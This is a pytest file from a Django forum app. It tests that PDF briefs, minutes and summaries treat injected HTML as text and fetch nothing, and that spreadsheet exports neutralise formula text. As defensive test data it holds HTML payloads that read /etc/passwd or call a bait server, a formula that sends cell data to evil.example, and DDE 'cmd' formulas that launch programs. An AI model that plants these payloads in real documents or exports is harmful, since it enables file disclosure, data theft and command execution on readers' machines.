"""Hostile text in the documents the forum produces: brief, minutes and summary PDFs, exports.

Each PDF is made once, with every payload spread over the fields it shows. The HTML handed to
WeasyPrint must have no element or attribute the payloads brought (compared with a harmless
twin; only the Markdown sanitiser's own tags may differ, in Markdown fields), the PDF's text
must show the plain-text fields literally, and nothing may be fetched: a local web server and
a real image file are the bait, and neither may be touched. Spreadsheet exports must show
formula-like text as text.
"""

import base64
import csv
import datetime
import io
import subprocess
import tempfile
import threading
import zipfile
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import urlparse
from xml.etree import ElementTree

import openpyxl
import pytest
import weasyprint
from django.contrib.staticfiles import finders
from django.urls import reverse
from django.utils import timezone
from weasyprint.urls import URLFetcher

from escalations import pdf as brief_pdf
from escalations.forms import BriefForm
from escalations.models import Response
from escalations.pdf import allowed_images, render_brief_html
from escalations.services import briefs
from forum_app import markup
from forum_app.models import Role
from meetings import pdf as minutes_pdf
from meetings import services as meetings
from meetings.models import Attendance, Outcome, Phase
from summaries import report
from summaries.exports import export_file, export_tables
from tests.conftest import client_for
from tests.factories import (
    CategoryFactory,
    DecisionFactory,
    ForumFactory,
    IssueFactory,
    MeetingFactory,
    MembershipFactory,
    ServiceAreaFactory,
    ThemeFactory,
)
from tests.meetings.conftest import advance_to
from tests.xss import PAYLOADS, Document, escaped_or_absent, fit, payload_born, squeeze

pytestmark = pytest.mark.django_db

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
CHART = "data:image/svg+xml;base64,"
# Elements and attributes that run something or fetch something, wherever they come from.
DANGEROUS_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "image",
    "video",
    "audio",
    "source",
    "picture",
    "base",
    "form",
    "input",
    "button",
    "textarea",
}
FETCHING_ATTRIBUTES = {"src", "srcset", "data", "background", "poster", "xlink:href", "style"}


class Bait:
    """A local web server and an image file: what a payload would make WeasyPrint fetch."""

    def __init__(self, image_path) -> None:
        self.hits: list[str] = []
        image_path.write_bytes(PIXEL)
        self.image = image_path.as_uri()
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()
                self.wfile.write(PIXEL)

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def payloads(self) -> list[str]:
        url, image = self.base, self.image
        return [
            '<img src="file:///etc/passwd">',
            f'<img src="{image}" alt="">',
            f'<img src="{url}/img.png">',
            f'<link rel="stylesheet" href="{url}/x.css">',
            f"<style>@import url('{url}/import.css'); body {{ background: url({image}) }}</style>",
            f'<p style="background-image:url({url}/bg.png)">styled</p>',
            f'<svg><image href="{image}" width="9" height="9"/></svg>',
            f'<object data="{url}/object"></object><embed src="{image}">',
            f'<iframe src="{url}/frame"></iframe>',
            f"![pixel]({url}/md.png) ![file]({image})",
        ]


@pytest.fixture
def bait(tmp_path):
    trap = Bait(tmp_path / "secret.png")
    yield trap
    trap.server.shutdown()
    trap.server.server_close()


@pytest.fixture
def fetched(monkeypatch) -> list[str]:
    """Every URL that got past the project's fetchers to WeasyPrint's own."""
    seen: list[str] = []
    real = URLFetcher.fetch

    def spy(self, url, headers=None):
        seen.append(url)
        return real(self, url, headers)

    monkeypatch.setattr(URLFetcher, "fetch", spy)
    return seen


@pytest.fixture
def handed_to_weasyprint(monkeypatch) -> list[str]:
    """The HTML of every document given to WeasyPrint."""
    documents: list[str] = []

    class Recording(weasyprint.HTML):
        def __init__(self, *args, string=None, **kwargs) -> None:
            documents.append(string)
            super().__init__(*args, string=string, **kwargs)

    for module in (brief_pdf, minutes_pdf, report):
        monkeypatch.setattr(module, "HTML", Recording)
    return documents


def pdf_text(pdf: bytes) -> str:
    done = subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True)
    return done.stdout.decode()


def pdf_words(text: str) -> str:
    """Text to compare with a PDF's: pdftotext joins a word hyphenated at a line's end."""
    return squeeze(text).replace("-", "")


def pdf_images(pdf: bytes) -> list[str]:
    """The images embedded in ``pdf``, one line each (charts are drawn as vectors, not images)."""
    with tempfile.NamedTemporaryFile(suffix=".pdf") as handle:
        handle.write(pdf)
        handle.flush()
        done = subprocess.run(
            ["pdfimages", "-list", handle.name], capture_output=True, check=True, text=True
        )
    header, rule, *images = done.stdout.splitlines()
    assert header.split()[:2] == ["page", "num"] and rule.startswith("---")
    return images


def markup_problems(document: Document, *, links: int = 0, metas: int) -> list[str]:
    """Anything in a PDF's HTML that could run or fetch, beyond the template's own."""
    found = [f"<{tag}>" for tag, _names in document.elements if tag in DANGEROUS_TAGS]
    counts = Counter(tag for tag, _names in document.elements)
    if counts["link"] != links or counts["meta"] != metas:
        found.append(f"{counts['link']} <link> and {counts['meta']} <meta>")
    for tag, name, value in document.attributes:
        if name.startswith("on"):
            found.append(f"{tag} {name}=")
        elif name in FETCHING_ATTRIBUTES and not (tag == "img" and value.startswith(CHART)):
            found.append(f"{tag} {name}={value[:60]}")
        elif tag == "a" and name == "href" and urlparse(value).scheme not in {"http", "https", ""}:
            if not value.startswith("mailto:"):
                found.append(f"a href={value}")
    return found


def sanitiser_only(born: Counter, allowed_tags: set[str]) -> list:
    """Elements the payloads brought that the Markdown sanitiser would not have made."""
    return [
        element
        for element in born
        if element[0] not in allowed_tags or not set(element[1]) <= {"href", "rel"}
    ]


def nothing_fetched(bait: Bait, fetched: list[str], pdf: bytes, allowed: set[str]) -> None:
    assert bait.hits == []
    assert fetched, "the document fetched nothing at all: is the fetcher spy still in the path?"
    assert set(fetched) <= allowed, set(fetched) - allowed
    assert pdf_images(pdf) == []
    assert "root:" not in pdf_text(pdf)


def replaced(value, swaps: dict[str, str]):
    if isinstance(value, dict):
        return {key: replaced(item, swaps) for key, item in value.items()}
    if isinstance(value, list | tuple):
        return type(value)(replaced(item, swaps) for item in value)
    if isinstance(value, str):
        for hostile, benign in sorted(swaps.items(), key=lambda swap: -len(swap[0])):
            value = value.replace(hostile, benign)
        return value
    return value


def chunks(items: list[str], n: int) -> list[list[str]]:
    return [items[i::n] for i in range(n)]


# The brief ------------------------------------------------------------------------------------


def test_the_brief_pdf_shows_hostile_text_as_text_and_fetches_nothing(
    monkeypatch, bait, fetched, handed_to_weasyprint
):
    hostile = bait.payloads + PAYLOADS  # bait first: an unclosed <iframe> would hide the rest
    titles, areas, people, figures = chunks(hostile, 4)
    forum = ForumFactory(name=fit(titles[0], 120))
    convenor = MembershipFactory(forum=forum, role=Role.CONVENOR).user
    leaders = [
        MembershipFactory(forum=forum, role=Role.LEADER, user__display_name=fit(name, 80)).user
        for name in people[:3]
    ]
    held = advance_to(MeetingFactory(forum=forum), convenor, Phase.GROUP)
    theme = meetings.theme_create(meeting=held, actor=convenor, name=fit(titles[1], 120))
    service_areas = [ServiceAreaFactory(forum=forum, name=fit(name, 80)) for name in areas[:4]]
    for i, body in enumerate(hostile):
        issue = IssueFactory(forum=forum, body=body, service_area=service_areas[i % 4])
        meetings.issue_move(meeting=held, actor=convenor, issue=issue, theme=theme)
    brief = briefs.brief_create(forum=forum, actor=convenor, theme=theme)
    problem, impact, solutions, ask = ("\n\n".join(part) for part in chunks(hostile, 4))
    form = BriefForm(
        {
            "title": fit(titles[2], 200),
            "problem": problem,
            "impact": impact,
            "proposed_solutions": solutions,
            "ask": ask,
            "response_by": (timezone.localdate() + datetime.timedelta(days=28)).isoformat(),
            "recipients": [leader.pk for leader in leaders],
            "quoted": list(theme.theme_issues.values_list("issue_id", flat=True)),
        },
        forum=forum,
        theme=theme,
    )
    assert form.is_valid(), form.errors
    briefs.brief_update(brief=brief, actor=convenor, data=form.data_for_service())
    for text in figures:
        briefs.brief_figure_add(brief=brief, actor=convenor, text=text, source=fit(text, 200))

    version = briefs.brief_send(brief=brief, actor=convenor)

    assert handed_to_weasyprint == [version.html]
    document = Document(version.html)
    assert markup_problems(document, metas=3) == []
    plain = [forum.name, theme.name, form.cleaned_data["title"], *figures]
    plain += [leader.display_name for leader in leaders] + [area.name for area in service_areas]
    plain += [quote.text for quote in brief.quotes.all()]
    assert len(plain) > len(hostile)
    swaps = {text: f"Harmless text {i}" for i, text in enumerate(hostile + plain)}
    twin = Document(render_brief_html(replaced(version.snapshot, swaps)))
    assert sanitiser_only(payload_born(document, twin), markup.ALLOWED_TAGS) == []
    assert [text for text in plain if not escaped_or_absent(text, version.html)] == []
    assert [text for text in plain if not document.shows(text)] == []
    shown = pdf_words(pdf_text(bytes(version.pdf)))
    assert [text for text in plain if pdf_words(text) not in shown] == []
    charts = allowed_images(version.html)
    assert charts
    nothing_fetched(bait, fetched, bytes(version.pdf), charts)


# The minutes ----------------------------------------------------------------------------------


def test_the_minutes_pdf_shows_hostile_text_as_text_and_fetches_nothing(
    bait, fetched, handed_to_weasyprint
):
    hostile = bait.payloads + PAYLOADS
    names, decided = chunks(hostile, 2)
    forum = ForumFactory(name=fit(names[0], 120))
    convenor = MembershipFactory(forum=forum, role=Role.CONVENOR).user
    member = MembershipFactory(forum=forum, role=Role.MEMBER).user
    leader = MembershipFactory(
        forum=forum, role=Role.LEADER, user__display_name=fit(names[1], 80)
    ).user
    held = MeetingFactory(forum=forum, title=fit(names[2], 120), place=fit(names[3], 200))
    MeetingFactory(
        forum=forum,
        starts_at=held.starts_at + datetime.timedelta(days=30),
        ends_at=held.starts_at + datetime.timedelta(days=30, hours=1),
        place=fit(names[4], 200),
    )
    held = advance_to(held, convenor, Phase.REVIEW)
    for title in names[5:8]:
        meetings.agenda_item_add(meeting=held, actor=convenor, title=title)
    held = advance_to(held, convenor, Phase.GROUP)
    themes = [
        meetings.theme_create(meeting=held, actor=convenor, name=fit(name, 120))
        for name in names[8:12]
    ]
    for theme in themes:
        meetings.issue_move(
            meeting=held, actor=convenor, issue=IssueFactory(forum=forum), theme=theme
        )
    held = advance_to(held, convenor, Phase.VOTE)
    meetings.meeting_attend(meeting=held, user=member)
    meetings.ballot_cast(meeting=held, voter=member, allocations={themes[0].pk: 2})
    held = advance_to(held, convenor, Phase.DECIDE)
    for i, theme in enumerate(themes):
        escalate = i % 2 == 0
        meetings.decision_record(
            meeting=held,
            actor=convenor,
            theme=theme,
            data=meetings.DecisionData(
                outcome=Outcome.ESCALATE if escalate else Outcome.PARK,
                problem_statement=decided[4 * i % len(decided)],
                proposed_solution=decided[(4 * i + 1) % len(decided)],
                ask=decided[(4 * i + 2) % len(decided)],
                leader=leader if escalate else None,
                response_by=timezone.localdate() + datetime.timedelta(days=28),
                owner=fit(decided[(4 * i + 3) % len(decided)], 200),
                notes=names[(12 + i) % len(names)],
            ),
        )
    minutes = meetings.meeting_close(meeting=held, actor=convenor)
    body = minutes.body + "\n\n" + "\n\n".join(hostile)
    meetings.minutes_update(minutes=minutes, actor=convenor, body=body)
    meetings.minutes_publish(minutes=minutes, actor=convenor)
    held.refresh_from_db()
    url = reverse("meetings:minutes_pdf", args=[forum.slug, held.pk])

    response = client_for(member).get(url)

    assert response.status_code == 200
    pdf = response.content
    [html] = handed_to_weasyprint
    document = Document(html)
    assert markup_problems(document, links=1, metas=2) == []
    plain = [forum.name, held.title, held.place]
    assert [text for text in plain if not escaped_or_absent(text, html)] == []
    assert [text for text in plain if not document.shows(text)] == []
    shown = pdf_words(pdf_text(pdf))
    assert [text for text in plain if pdf_words(text) not in shown] == []
    swaps = {text: f"Harmless text {i}" for i, text in enumerate(hostile + plain)}
    type(forum).objects.filter(pk=forum.pk).update(name=swaps[forum.name])
    type(held).objects.filter(pk=held.pk).update(title=swaps[held.title], place=swaps[held.place])
    type(minutes).objects.filter(pk=minutes.pk).update(body=replaced(body, swaps))
    assert client_for(member).get(url).status_code == 200
    twin = Document(handed_to_weasyprint[1])
    assert sanitiser_only(payload_born(document, twin), markup.MINUTES_TAGS) == []
    stylesheet = Path(finders.find(minutes_pdf.STYLESHEET)).resolve().as_uri()
    nothing_fetched(bait, fetched, pdf, {stylesheet})


# The steward's summary and its spreadsheets ---------------------------------------------------

# What Excel, LibreOffice and Google Sheets take as the start of a formula.
SPREADSHEET_RUNS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def summary_world(texts: list[str], monkeypatch):
    """A forum where each text names a category, service area, theme, meeting or commitment.

    Names are stored as given (cut to their fields' lengths, not stripped), as an import or
    the admin site could; commitments go through their service. Returns the forum and the
    texts as stored.
    """
    monkeypatch.setattr(briefs, "render_brief_pdf", lambda html: b"%PDF-1.7 stand-in")
    forum = ForumFactory(name=texts[0][:120], k_anonymity=2)
    convenor = MembershipFactory(forum=forum, role=Role.CONVENOR).user
    leader = MembershipFactory(forum=forum, role=Role.LEADER).user
    categories, areas, themes, titles, commitments = chunks(texts[1:], 5)
    stored = [forum.name]
    usual = {
        "category": CategoryFactory(forum=forum, name="Caseloads"),
        "service_area": ServiceAreaFactory(forum=forum, name="Children in care"),
    }
    for field, factory, names in (
        ("category", CategoryFactory, categories),
        ("service_area", ServiceAreaFactory, areas),
    ):
        for name in names:
            group = factory(forum=forum, name=name[:80])
            for _ in range(2):  # two people: enough to be shown with k = 2
                IssueFactory(forum=forum, **{**usual, field: group})
            stored.append(group.name)
    past = timezone.now() - datetime.timedelta(days=3)
    themes = [ThemeFactory(forum=forum, name=name[:120]) for name in themes]
    stored += [theme.name for theme in themes]
    for title, theme in zip(titles, themes, strict=False):
        meeting = MeetingFactory(
            forum=forum,
            title=title[:120],
            starts_at=past,
            ends_at=past + datetime.timedelta(hours=1),
        )
        Attendance.objects.create(meeting=meeting, user=convenor)
        decision = DecisionFactory(meeting=meeting, theme=theme, leader=leader)
        stored.append(meeting.title)
    brief = briefs.brief_create(
        forum=forum, actor=convenor, theme=decision.theme, decision=decision
    )
    briefs.brief_send(brief=brief, actor=convenor)
    briefs.brief_respond(
        brief=brief, actor=leader, position=Response.Position.ACCEPT, reasons="Agreed."
    )
    for what in commitments:
        briefs.commitment_add(
            brief=brief,
            actor=leader,
            what=what,
            owner="Head of Service",
            due_on=timezone.localdate() + datetime.timedelta(days=30),
        )
        stored.append(what.strip())
    assert len(stored) == len(texts)
    return forum, stored


# Chart labels: matplotlib would read paired dollars as TeX, and fail on TeX it cannot parse.
MATHTEXT = ["Fuel: $5 a day, $10 at weekends", r"$x^$ \frac{1}{0}"]
PERIOD = (timezone.localdate() - datetime.timedelta(days=60), timezone.localdate())


@pytest.mark.filterwarnings("ignore:Tight layout not applied", "ignore:Glyph 13")
def test_the_summary_pdf_shows_hostile_text_as_text_and_fetches_nothing(
    monkeypatch, bait, fetched, handed_to_weasyprint
):
    hostile = [bait.payloads[0], *MATHTEXT, *bait.payloads[1:], *PAYLOADS, *FORMULAS]
    forum, plain = summary_world(hostile, monkeypatch)

    pdf = export_file([forum], *PERIOD, "pdf").content

    [html] = handed_to_weasyprint
    document = Document(html)
    assert markup_problems(document, metas=1) == []
    tables = export_tables([forum], *PERIOD)
    swaps = {text: f"Harmless text {i}" for i, text in enumerate(plain)}
    harmless = SimpleNamespace(name=swaps[forum.name])
    twin = Document(report.summary_html([harmless], *PERIOD, replaced(tables, swaps)))
    assert payload_born(document, twin) + payload_born(twin, document) == Counter()
    assert [text for text in plain if not escaped_or_absent(text, html)] == []
    assert [text for text in plain if not document.shows(text)] == []
    shown = pdf_words(pdf_text(pdf))
    assert [text for text in plain if pdf_words(text) not in shown] == []
    charts = allowed_images(html)
    labels = {row[1] for row in tables["issues_by_category"] + tables["issues_by_service_area"]}
    assert len(charts) >= 3 and len(labels) >= 10
    drawn = [chart(uri) for uri in charts]
    assert [problem for found, _texts in drawn for problem in found] == []
    drawn_texts = {text.strip() for _found, texts in drawn for text in texts}
    lines = {line.strip() for label in labels for line in label.splitlines() if line.strip()}
    assert lines - drawn_texts == set()  # each label line is a text of its own
    nothing_fetched(bait, fetched, pdf, charts)


def chart(uri: str) -> tuple[list[str], set[str]]:
    """What in a chart's SVG could run or fetch, and the texts it shows."""
    svg = base64.b64decode(uri.removeprefix(CHART))
    root = ElementTree.fromstring(svg)  # noqa: S314 — drawn by matplotlib in this process
    found = []
    for element in root.iter():
        tag = element.tag.rsplit("}", 1)[-1]
        if tag in {"script", "image", "foreignObject", "a", "iframe", "object", "embed"}:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = name.rsplit("}", 1)[-1]
            if name.startswith("on") or (name == "href" and not value.startswith("#")):
                found.append(f"<{tag} {name}={value[:60]}>")
    texts = {"".join(element.itertext()) for element in root.iter() if element.tag.endswith("text")}
    return found, texts


def spreadsheet_cells(export) -> list[tuple[str, object, str]]:
    """Every cell of an export as (file or sheet, value, type): "f" for a formula."""
    if export.filename.endswith(".xlsx"):
        book = openpyxl.load_workbook(io.BytesIO(export.content))
        return [
            (sheet.title, cell.value, cell.data_type)
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
        ]
    cells = []
    with zipfile.ZipFile(io.BytesIO(export.content)) as archive:
        for name in archive.namelist():
            rows = csv.reader(io.StringIO(archive.read(name).decode(), newline=""))
            cells += [(name, value, "s") for row in rows for value in row]
    return cells


@pytest.mark.parametrize("format", ["xlsx", "csv"])
def test_text_that_looks_like_a_formula_is_text_in_every_column_of_the_exports(monkeypatch, format):
    texts = [*FORMULAS * 5, "Tom & Jerry's\x0b team\x01"]
    forum, _stored = summary_world(texts, monkeypatch)

    cells = spreadsheet_cells(export_file([forum], *PERIOD, format))

    assert [cell for cell in cells if cell[2] == "f"] == []
    strings = [value for _where, value, _type in cells if isinstance(value, str)]
    assert [value for value in strings if value.startswith(SPREADSHEET_RUNS)] == []
    kept = {value.removeprefix("'").replace("\r", "\n") for value in strings}
    assert {text.replace("\r", "\n") for text in FORMULAS} <= kept  # XML reads \r as \n
    assert "Tom & Jerry's team" in kept  # control characters a workbook cannot hold are dropped
    places = {where for where, value, _type in cells if value in {f"'{t}" for t in FORMULAS}}
    assert len(places) >= 6, places
